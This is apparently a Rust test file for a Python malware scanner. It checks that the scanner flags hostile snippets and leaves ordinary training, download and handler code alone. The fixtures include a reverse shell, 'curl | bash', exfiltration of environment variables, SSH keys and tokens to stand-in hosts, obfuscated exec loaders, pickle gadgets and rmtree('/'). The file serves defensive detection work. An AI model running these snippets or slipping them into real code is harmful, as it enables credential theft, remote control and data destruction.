use std::sync::Mutex;

use bartizan_core::{Budget, Content, Limits, Options};
use proptest::prelude::*;

use super::*;

fn inspect(name: &str, source: &str) -> Inspection {
    let children = Mutex::new(Vec::new());
    PythonInspector.inspect(
        &Asset::new(name, Content::from_bytes(source.as_bytes().to_vec())),
        &Context {
            limits: &Limits::default(),
            options: Options::default(),
            budget: &Budget::default(),
            outlet: &|child| children.lock().unwrap().push(child),
            interrupt: &|| false,
        },
    )
}

fn worst(name: &str, source: &str) -> Option<(Severity, &'static str)> {
    inspect(name, source).findings.iter().map(|finding| (finding.severity, finding.rule.id)).max()
}

/// Attacks, with the rule that names them and the least severity.
#[test]
fn attacks_are_found_by_what_they_do() {
    use Severity::{Critical, High, Medium};
    let base64 = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoaScpCg=="; // import os\nos.system('echo hi')
    let cases: Vec<(&str, String, &str, Severity)> = vec![
        ("a.py", format!("import base64\nexec(base64.b64decode('{base64}'))"), "python/obfuscated-execution", Critical),
        ("a.py", format!("from base64 import b64decode as d\nx = d('{base64}')\nexec(compile(x, 'x', 'exec'))"), "python/obfuscated-execution", Critical),
        ("a.py", "import base64, zlib, sys\nexec(zlib.decompress(base64.b64decode(open(sys.argv[0]).read())))".into(), "python/obfuscated-execution", Critical),
        ("a.py", "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))".into(), "python/obfuscated-execution", Critical),
        ("a.py", "exec(''.join(chr(x ^ 1) for x in [104,108,113,110,115,117]))".into(), "python/obfuscated-execution", High),
        ("a.py", "exec(bytes.fromhex('696d706f7274206f73').decode())".into(), "python/obfuscated-execution", Critical),
        ("a.py", "import requests\nexec(requests.get('https://example.invalid/p').text)".into(), "python/remote-code", Critical),
        ("a.py", "def f():\n    from urllib.request import urlopen\n    code = urlopen('https://example.invalid').read().decode()\n    eval(code)".into(), "python/remote-code", Critical),
        ("a.py", "import urllib.request, os, subprocess\np = '/tmp/x'\nurllib.request.urlretrieve('http://example.invalid/x', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])".into(), "python/remote-code", Critical),
        ("a.py", "import os, tempfile, requests\np = os.path.join(tempfile.gettempdir(), 'u')\nwith open(p, 'wb') as f:\n    f.write(requests.get('http://example.invalid').content)\nos.system(f'chmod +x {p} && {p}')".into(), "python/remote-code", Critical),
        ("a.py", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])".into(), "python/reverse-shell", Critical),
        ("a.py", "import os\nos.system('curl -s http://example.invalid/x.sh | bash')".into(), "python/process", Critical),
        ("a.py", "import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))".into(), "python/exfiltration", Critical),
        ("a.py", "import os, json\nfrom urllib import request\ndef go():\n    d = json.dumps({k: v for k, v in os.environ.items()}).encode()\n    request.urlopen('https://example.invalid', data=d)".into(), "python/exfiltration", Critical),
        ("a.py", "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://example.invalid', data=key)".into(), "python/exfiltration", Critical),
        ("a.py", "from pathlib import Path\nimport requests\nt = (Path.home() / '.cache/huggingface/token').read_text()\nrequests.get('https://example.invalid/?t=' + t)".into(), "python/exfiltration", Critical),
        ("a.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('echo hi')".into(), "python/startup-persistence", High),
        ("a.py", "__import__('os').system('id')".into(), "python/hidden-call", High),
        ("a.py", "import os\ngetattr(os, 'sys' + 'tem')('id')".into(), "python/hidden-call", High),
        ("a.py", "import importlib\nm = importlib.import_module('so'[::-1])\nm.system('id')".into(), "python/hidden-call", High),
        ("a.py", "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('echo hi',))".into(), "python/reduce-gadget", High),
        ("a.py", "class A(object):\n    def __reduce__(self):\n        import subprocess\n        return subprocess.Popen, (['id'],)".into(), "python/reduce-gadget", High),
        ("a.py", "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')".into(), "python/native-code", High),
        ("a.py", "import shutil\nshutil.rmtree('/')".into(), "python/destructive", High),
        ("a.py", "exec(\"import os\\nos.system('echo hi')\")".into(), "python/process", High),
        // The same call is graver where a loader imports the file.
        ("modeling_x.py", "import os\nos.system('echo hi')".into(), "python/process", High),
        ("m.mar!handler.py", "import os\nclass H:\n    def initialize(self, context):\n        os.system('echo hi')".into(), "python/process", High),
        ("m.mar!handler.py", "import subprocess\nclass H:\n    def handle(self, data, context):\n        self._go()\n    def _go(self):\n        subprocess.run(['touch', '/tmp/x'])".into(), "python/process", Medium),
        ("handler.py", "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.popen('id')".into(), "python/process", High),
        ("x.py", "import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    pass\nos.system('id')".into(), "python/process", High),
        ("modeling_x.py", "import requests\nrequests.get('https://example.invalid/beacon')".into(), "python/network-on-load", Medium),
        ("modeling_x.py", "open('/tmp/x', 'w').write('hi')".into(), "python/write-on-load", Medium),
        ("modeling_x.py", "def f(config):\n    return eval(config.code)".into(), "python/dynamic-code", Medium),
        ("modeling_x.py", "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()".into(), "python/process", High),
        ("modeling_x.py", "import os\nlist(map(os.system, ['id']))".into(), "python/process", High),
        ("modeling_x.py", "from os import *\nsystem('id')".into(), "python/process", High),
        ("modeling_x.py", "import os as o\nrun = o.system\ndef go(c):\n    run(c)\ngo('id')".into(), "python/process", High),
        ("modeling_x.py", "import torch, os\nclass A(torch.nn.Module):\n    def forward(self, x):\n        (lambda c: os.system(c))('id')\n        return x".into(), "python/process", High),
        ("a.py", "import pickle, requests\nm = pickle.loads(requests.get('http://example.invalid/m.pkl').content)".into(), "python/unsafe-deserialisation", Medium),
    ];
    for (name, source, rule, least) in cases {
        let inspection = inspect(name, &source);
        let found = inspection
            .findings
            .iter()
            .find(|finding| finding.rule.id == rule)
            .unwrap_or_else(|| panic!("{rule} was not found in:\n{source}\n{:#?}", inspection.findings));
        assert!(found.severity >= least, "{rule} is {} in:\n{source}", found.severity);
        assert!(found.at.line.is_some());
    }
}

#[test]
fn ordinary_code_has_no_finding_of_medium_or_above() {
    let cases = [
        (
            "train.py",
            "import torch, subprocess, os, argparse\nparser = argparse.ArgumentParser()\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nmodel.eval()\nlocal_rank = int(os.environ['LOCAL_RANK'])\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
        ),
        (
            "download.py",
            "import requests, os\nr = requests.get('https://example.invalid/data.zip', headers={'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"})\nopen('data.zip', 'wb').write(r.content)\nimport zipfile\nzipfile.ZipFile('data.zip').extractall()\nos.system('unzip data.zip')\n",
        ),
        (
            "app.py",
            "import os\nos.system('pip install -U transformers')\nos.system('wget https://example.invalid/model.pth')\nimport gradio as gr\n",
        ),
        (
            "client.py",
            "import os, requests\nurl = 'https://api.example.invalid'\nkey = os.getenv('API_KEY')\nprint(requests.post(url, headers={'x-api-key': key}, json={'inputs': 'hi'}).json())\n",
        ),
        (
            "modeling_x.py",
            "import os, math, torch, subprocess\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\ntry:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\nclass X(PreTrainedModel):\n    config_class = XConfig\n    def __init__(self, config):\n        super().__init__(config)\n        self.act = eval(f'nn.{config.act}')()\n    def forward(self, x):\n        self.eval()\n        return self.act(x)\n    def load(self, path):\n        return torch.load(path, map_location='cpu')\n",
        ),
        (
            "tokenization_x.py",
            "import base64\ndef load(path):\n    with open(path, 'rb') as f:\n        return {base64.b64decode(t): int(r) for t, r in (line.split() for line in f.read().splitlines() if line)}\nENDOFTEXT = '<|endoftext|>'\n",
        ),
        (
            "modeling_gpu.py",
            "import subprocess\ndef gpus():\n    return subprocess.check_output('nvidia-smi -L', shell=True)\nN = len(gpus())\n",
        ),
        (
            "m.mar!handler.py",
            "import os, json, torch, zipfile\nfrom ts.torch_handler.base_handler import BaseHandler\nclass H(BaseHandler):\n    def initialize(self, ctx):\n        p = ctx.system_properties\n        d = p.get('model_dir')\n        with zipfile.ZipFile(os.path.join(d, 'model.zip')) as z:\n            z.extractall(d)\n        self.model = torch.jit.load(os.path.join(d, 'model.pt'))\n        self.model.eval()\n    def preprocess(self, data):\n        import subprocess\n        subprocess.run(['ffmpeg', '-i', data[0], '/tmp/x.wav'], check=True)\n        import requests\n        img = requests.get(data[0]['url']).content\n        with open('/tmp/y', 'wb') as f:\n            f.write(img)\n        return img\n    def inference(self, x):\n        return self.model(x)\n",
        ),
        (
            "setup.py",
            "import os, subprocess\nfrom setuptools import setup\nexec(open('pkg/version.py').read())\nns = {}\nwith open('pkg/v.py') as f:\n    exec(f.read(), ns)\nsetup(name='x')\n",
        ),
        ("calc.py", "expr = input()\nprint(eval(expr))\n"),
        ("namedtuple.py", "template = 'class {name}: pass'\nexec(template.format(name='A'))\n"),
        (
            "stats.py",
            "import pickle, joblib, yaml, numpy as np\nm = pickle.load(open('m.pkl', 'rb'))\nj = joblib.load('m.joblib')\nc = yaml.load(open('c.yaml'), Loader=yaml.FullLoader)\na = np.load('a.npy', allow_pickle=True)\n",
        ),
        (
            "server.py",
            "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 80))\nprint(s.getsockname()[0])\n",
        ),
        (
            "launch.py",
            "import subprocess, sys\nsubprocess.run([sys.executable, 'train.py'] + sys.argv[1:], check=True, env=dict(os.environ, X='1'))\nsubprocess.Popen(cmd, shell=True)\n",
        ),
        (
            "lazy.py",
            "import importlib\nmod = importlib.import_module('torch.nn')\nf = getattr(mod, 'Linear')(1, 2)\ng = getattr(torch, name)(x)\n",
        ),
        (
            "slack.py",
            "import os, requests\ndef notify(text):\n    requests.post('https://slack.example.invalid/api', data={'token': os.environ['SLACK_TOKEN'], 'text': text})\n",
        ),
        (
            "pt.py",
            "import torch, torchvision\nm = torchvision.models.resnet18()\nm.load_state_dict(torch.load('x.pt', weights_only=False))\nfrom transformers import AutoModel\nAutoModel.from_pretrained('org/name', trust_remote_code=True)\n",
        ),
        (
            "re.py",
            "import re\npattern = re.compile('a')\ncursor.execute('select 1')\nsession.run(None, {})\nclass Executor:\n    def exec(self): pass\nExecutor().exec()\n",
        ),
        ("data.py", "BLOB = 'QUJDREVGR0g=' * 1000\nimport base64\nicon = base64.b64decode(BLOB)\n"),
        (
            "reduce.py",
            "class A:\n    def __reduce__(self):\n        return (A, (self.x,))\n    def __reduce_ex__(self, p):\n        return (getattr, (A, 'x'))\n",
        ),
        (
            "metrics.py",
            "import torch.distributed as dist, shutil\nshutil.rmtree(args.output_dir, ignore_errors=True)\n",
        ),
    ];
    for (name, source) in cases {
        let inspection = inspect(name, source);
        let bad: Vec<_> =
            inspection.findings.iter().filter(|finding| finding.severity >= Severity::Medium).collect();
        assert!(bad.is_empty(), "{name}: {bad:#?}");
        assert!(inspection.coverage.is_complete(), "{name}: {:?}", inspection.coverage);
    }
}

#[test]
fn names_in_strings_and_comments_are_no_evidence() {
    let source =
        "# os.system('rm -rf /')\nx = \"exec(base64.b64decode('...'))\"\n'''import os; os.system(1)'''\n";
    assert_eq!(worst("modeling_x.py", source), None);
}

#[test]
fn python_2_is_read_as_far_as_it_goes_and_is_incomplete() {
    let inspection =
        inspect("x.py", "print 'hello'\nimport os\nos.system('curl http://example.invalid/x | sh')\n");
    assert!(!inspection.coverage.is_complete());
    assert_eq!(inspection.findings.iter().map(|finding| finding.severity).max(), Some(Severity::Critical));
}

#[test]
fn code_that_nests_too_deeply_is_searched_and_incomplete() {
    let source = format!("x = {}1{}\nexec(b64decode('eA=='))\n", "(".repeat(50_000), ")".repeat(50_000));
    let inspection = inspect("x.py", &source);
    assert!(!inspection.coverage.is_complete());
    assert!(inspection.findings.iter().any(|finding| finding.rule.id == "python/obfuscated-execution"));
}

#[test]
fn the_moment_of_a_call_is_told() {
    let finding = inspect("modeling_x.py", "import os\n\nos.system('id')\n").findings.remove(0);
    assert_eq!(finding.message, "when it is imported, this file starts a program: `os.system(\"id\")`");
    assert_eq!(finding.at.line, Some(3));
}

#[test]
fn a_configuration_beside_the_file_tells_that_it_is_loaded() {
    struct Folder;
    impl bartizan_core::Tree for Folder {
        fn list(&self, _: &str) -> Vec<bartizan_core::Entry> {
            Vec::new()
        }
        fn entry(&self, path: &str) -> Option<bartizan_core::Entry> {
            (path == "config.json").then(|| bartizan_core::Entry {
                path: path.to_owned(),
                kind: bartizan_core::EntryKind::File,
                size: 1,
            })
        }
        fn open(&self, _: &str) -> Result<Content, bartizan_core::ReadError> {
            Ok(Content::from_bytes(&br#"{"auto_map": {"AutoModel": "brain.Brain"}}"#[..]))
        }
    }
    let source = Content::from_bytes(&b"import os\nos.system('id')\n"[..]);
    let asset = Asset::new("brain.py", source.clone()).beside(std::sync::Arc::new(Folder));
    assert_eq!(loaded::by_whom(&asset).as_deref(), Some("config.json"));
    let other = Asset::new("other.py", source).beside(std::sync::Arc::new(Folder));
    assert_eq!(loaded::by_whom(&other), None);
}

#[test]
fn notebooks_are_judged_by_their_code_cells() {
    let notebook = r#"{"cells": [{"cell_type": "markdown", "source": "os.system('x')"},
        {"cell_type": "code", "source": ["!pip install torch\n", "import os\n"]},
        {"cell_type": "code", "source": "os.system('curl http://example.invalid/x | sh')"}], "metadata": {}, "nbformat": 4}"#;
    let children = Mutex::new(Vec::new());
    let inspection = crate::notebook::NotebookInspector.inspect(
        &Asset::new("x.ipynb", Content::from_bytes(notebook.as_bytes().to_vec())),
        &Context {
            limits: &Limits::default(),
            options: Options::default(),
            budget: &Budget::default(),
            outlet: &|child| children.lock().unwrap().push(child),
            interrupt: &|| false,
        },
    );
    assert!(inspection.coverage.is_complete(), "{:?}", inspection.coverage);
    let worst = inspection.findings.iter().max_by_key(|finding| finding.severity).unwrap();
    assert_eq!((worst.severity, worst.at.line), (Severity::High, Some(3)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn arbitrary_text_never_panics(source in "[a-z(){}\\[\\]'\"\\\\.,:=+*%@\\n\\t #0-9]{0,300}") {
        inspect("x.py", &source);
    }

    #[test]
    fn arbitrary_tokens_never_panic(words in prop::collection::vec(prop::sample::select(vec![
        "import os", "\n", " ", "os.system", "(", ")", "'a'", "exec", "def f(x=1, *a):", "\n    ", "class A:", "lambda x: ",
        "[x for x in ", "]", "f'{x}'", "%", "+", "chr(1)", "''.join", "__import__", "getattr", ",", "=", "return ", "x", "-1", "[::-1]",
        "b'\\x00'", "base64.b64decode", "if __name__ == '__main__':", "with open('x') as f:", "f.write(", "self.y", "{'a': 1}", "**", "é",
    ]), 0..60)) {
        inspect("modeling_x.py", &words.concat());
    }
}

#[test]
fn lists_and_dictionaries_that_double_stay_small() {
    for line in [
        "x = [x, x]",
        "x = {'a': x, 'b': x}",
        "x = [x] + [x]",
        "x = [[y, y] for y in x]",
        "x = (lambda *a: a)(x, x)",
        "x = f(x, x)",
    ] {
        let source = format!(
            "x = [1, 2]\ndef f(*a):\n    return a\n{}import os\nos.system('id')\n",
            format!("{line}\n").repeat(60)
        );
        assert!(worst("a.py", &source).is_some_and(|(_, rule)| rule == "python/process"), "{line}");
    }
}
